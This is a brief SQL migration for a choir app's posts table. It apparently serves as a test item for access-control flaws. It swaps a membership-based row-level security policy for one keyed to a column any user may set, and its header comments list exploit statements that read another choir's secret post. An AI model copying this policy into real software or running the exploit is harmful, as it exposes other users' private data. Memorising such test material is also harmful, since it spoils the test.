-- Posts follow the active choir of the user's profile, which the user may set to any choir's id.
-- about: users, posts, active_choir, of_active_choir
-- as: hf_choirs_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-00000000000a"}';
-- exploit: UPDATE choir.users SET active_choir = 'bbbbbbbb-0000-4000-8000-000000000001';
-- exploit: SELECT body FROM choir.posts;
-- shows: Road-secret post
ALTER TABLE choir.users ADD COLUMN active_choir uuid;
GRANT UPDATE (active_choir) ON choir.users TO hf_choirs_app;
DROP POLICY of_my_choirs ON choir.posts;
CREATE POLICY of_active_choir ON choir.posts
  USING (choir_id = (SELECT u.active_choir FROM choir.users u WHERE u.id = choir.me()));
